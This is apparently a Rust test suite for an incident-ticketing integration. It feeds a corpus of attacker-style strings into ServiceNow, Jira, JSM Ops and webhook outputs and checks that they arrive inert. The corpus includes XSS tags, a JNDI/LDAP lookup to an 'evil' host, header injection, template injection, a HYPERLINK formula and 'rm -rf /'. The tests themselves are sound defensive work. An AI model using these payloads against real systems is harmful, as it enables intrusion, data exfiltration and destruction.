//! No byte of alert text becomes markup, mention, template, header or line of a log.

use model::incident::{Incident, IncidentState};
use serde_json::Value;

use crate::double::jira::{Jira, TOKEN};
use crate::double::jsm_ops::JsmOps;
use crate::double::servicenow::{PASSWORD, ServiceNow};
use crate::fixture::{at, incident};
use crate::world::World;
use crate::{jira, jsm_ops, servicenow, webhook};

/// What an attacker makes an application log, and what must not arrive of it in a ticket.
pub(crate) const CORPUS: [(&str, &[&str]); 15] = [
    ("<script>alert(1)</script>", &["<script", "</script"]),
    ("<img src=x onerror=alert(1)>", &["<img"]),
    ("<!channel> <!here> <@U123>", &["<!channel", "<!here", "<@U"]),
    ("x\r\nSubject: pwned\r\n\r\nbody", &["\r", "\nSubject:"]),
    ("x\nfaultline, revision 9:\n- Resolved: its causes are quiet.", &["\nfaultline, revision 9"]),
    ("\u{1b}[2J\u{1b}[31mred", &["\u{1b}"]),
    (
        "pay\u{202e}tnemyap\u{2066}\u{200b}\u{feff}",
        &["\u{202e}", "\u{2066}", "\u{200b}", "\u{feff}"],
    ),
    ("{{constructor.constructor('x')()}}", &["{{"]),
    ("${jndi:ldap://evil/a} #{7*7} <%= 7*7 %> {%raw%}", &["${", "#{", "<%", "{%"]),
    ("[code]<b>bold</b>[/code]", &["[code]", "[/code]", "<b>"]),
    ("[click](https://evil.example) [[x]]", &["](", "[["]),
    ("@here @channel see", &["@here", "@channel"]),
    ("`id` ```\nrm -rf /\n```", &["`"]),
    ("nul\0 bell\u{7} line\u{2028}sep\u{85}nel", &["\0", "\u{7}", "\u{2028}", "\u{85}"]),
    ("=HYPERLINK(\"http://evil\")", &["\n=HYPERLINK"]),
];

/// Puts one text wherever text from outside can stand.
pub(crate) fn poisoned(text: &str) -> Incident {
    let mut incident = incident(1);
    incident.title = text.to_owned();
    incident.narrative = text.to_owned();
    incident.owner = Some(text.into());
    incident.cell.0 = text.into();
    incident.services.push(text.into());
    for alert in &mut incident.alerts {
        alert.name = text.into();
        alert.summary = text.into();
        alert.url = Some(text.into());
    }
    for hypothesis in &mut incident.hypotheses {
        hypothesis.entity.id = text.into();
        hypothesis.summary = text.to_owned();
        if let Some(change) = &mut hypothesis.change {
            change.title = text.into();
        }
        for evidence in &mut hypothesis.evidence {
            evidence.text = text.to_owned();
        }
    }
    incident
}

#[test]
fn tickets_hold_inert_text_in_every_field_and_note() {
    for (text, forbidden) in CORPUS {
        let double = ServiceNow::start();
        let mut world = World::new(&servicenow::sink_config(&double, PASSWORD));
        world.publish(&incident(1), at(10));
        world.run(at(10));
        let mut later = poisoned(text);
        later.revision = 2;
        world.publish(&later, at(100));
        world.run(at(100));
        later.revision = 3;
        later.state = IncidentState::Resolved;
        world.publish(&later, at(200));
        world.run(at(200));
        let mut fresh = poisoned(text);
        fresh.id = model::id::IncidentId(0xef);
        world.publish(&fresh, at(200));
        world.run(at(200));
        let table = double.table();
        assert_eq!(table.rows.len(), 2);
        for row in &table.rows {
            assert_eq!(row.work_notes.len(), if row.get("state") == "6" { 2 } else { 0 });
            for shown in row.fields.values().chain(&row.work_notes) {
                for part in forbidden {
                    assert!(!shown.contains(part), "{part:?} of {text:?} in {shown:?}");
                }
                assert!(!shown.starts_with(['=', '+', '-', '@']), "a formula: {shown:?}");
            }
        }
    }
}

/// Every text in a JSON value.
fn texts(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => vec![text.clone()],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(fields) => fields.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}

/// The three revisions of an incident whose texts are an attacker's.
fn tell_poisoned(world: &mut World, text: &str) {
    for (revision, state, secs) in [
        (1, IncidentState::Open, 10),
        (2, IncidentState::Open, 100),
        (3, IncidentState::Resolved, 200),
    ] {
        let mut incident = poisoned(text);
        incident.revision = revision;
        incident.state = state;
        if revision > 1 {
            incident.services.push("cart".into());
        }
        world.publish(&incident, at(secs));
        world.run(at(secs));
    }
}

#[test]
fn issues_and_alerts_hold_inert_text_in_every_field_and_note() {
    for (text, forbidden) in CORPUS {
        let site = Jira::start();
        tell_poisoned(&mut World::new(&jira::sink_config(&site, TOKEN)), text);
        let issue = site.issue();
        let mut shown = texts(&issue.fields);
        shown.extend(issue.comments.iter().flat_map(texts));
        assert!(issue.comments.len() >= 2, "{text:?}");
        let ops = JsmOps::start();
        tell_poisoned(&mut World::new(&jsm_ops::sink_config(&ops)), text);
        let alert = ops.alert();
        shown.extend(texts(&alert.fields));
        shown.extend(alert.notes.into_iter().map(|note| note.note));
        for shown in shown {
            for part in forbidden {
                assert!(!shown.contains(part), "{part:?} of {text:?} in {shown:?}");
            }
        }
    }
}

#[test]
fn events_hold_data_only_and_headers_hold_none_of_it() {
    for (text, _) in CORPUS {
        let receiver = webhook::receiver();
        let mut world = World::new(&webhook::sink_config(&receiver));
        world.publish(&poisoned(text), at(10));
        world.run(at(10));
        let inbox = receiver.inbox();
        let [event] = inbox.events.as_slice() else { panic!("{text:?}: {:?}", inbox.events) };
        let raw = std::str::from_utf8(&event.body).expect("UTF-8");
        assert!(!raw.contains(['<', '>', '&', '\n', '\r', '\u{1b}', '\0']), "{text:?}: {raw}");
        assert!(!raw.contains(['\u{202e}', '\u{2066}', '\u{200b}', '\u{2028}']), "{raw}");
        for escaped in ["\\u001b", "\\u0000", "\\u0007", "\\r"] {
            assert!(!raw.contains(escaped), "{text:?}: {raw}");
        }
        let names: Vec<&str> =
            event.headers.iter().filter_map(|header| header.split(':').next()).collect();
        assert_eq!(
            names,
            [
                "accept",
                "content-length",
                "content-type",
                "host",
                "idempotency-key",
                "user-agent",
                "webhook-id",
                "webhook-signature",
                "webhook-timestamp",
            ]
        );
        assert!(!event.headers.iter().any(|header| header.contains("evil")));
    }
}

#[test]
fn a_huge_text_is_capped_in_both() {
    let huge = poisoned(&"a <b> ".repeat(50_000));
    let double = ServiceNow::start();
    let mut world = World::new(&servicenow::sink_config(&double, PASSWORD));
    world.publish(&huge, at(10));
    world.run(at(10));
    assert!(double.ticket().get("description").len() < 8_000);
    let receiver = webhook::receiver();
    let mut world = World::new(&webhook::sink_config(&receiver));
    world.publish(&huge, at(10));
    world.run(at(10));
    let inbox = receiver.inbox();
    assert!(inbox.events.first().is_some_and(|event| event.body.len() < 300_000));
}
